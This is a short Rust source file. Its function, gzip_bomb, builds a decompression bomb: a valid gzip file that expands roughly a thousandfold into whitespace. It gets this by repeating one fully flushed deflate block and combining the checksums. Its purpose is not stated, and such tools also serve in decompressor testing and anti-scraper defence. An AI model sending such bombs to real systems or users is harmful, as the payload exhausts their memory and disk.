//! A gzip bomb, without the work that it takes to compress one.

use flate2::{Compress, Compression, Crc, FlushCompress};

use crate::Result;

/// What one block becomes.
const BLOCK: usize = 1 << 20;

/// A gzip file (RFC 1952), white space throughout, of about a kilobyte for each of these megabytes that it becomes.
///
/// # Errors
/// If the compressor fails.
pub fn gzip_bomb(mebibytes: usize) -> Result<Vec<u8>> {
    let plain = vec![b' '; BLOCK];
    let mut block = Vec::with_capacity(BLOCK);
    // Flushed fully, a block neither knows of those before it nor ends within an octet: so it can be repeated.
    Compress::new(Compression::best(), false).compress_vec(&plain, &mut block, FlushCompress::Full)?;
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let (mut one, mut sum) = (Crc::new(), Crc::new());
    one.update(&plain);
    for _ in 0..mebibytes {
        file.extend_from_slice(&block);
        sum.combine(&one);
    }
    // The last block is empty and stored (RFC 1951 §3.2.4).
    file.extend_from_slice(&[1, 0, 0, 0xff, 0xff]);
    file.extend_from_slice(&sum.sum().to_le_bytes());
    file.extend_from_slice(&sum.amount().to_le_bytes());
    Ok(file)
}
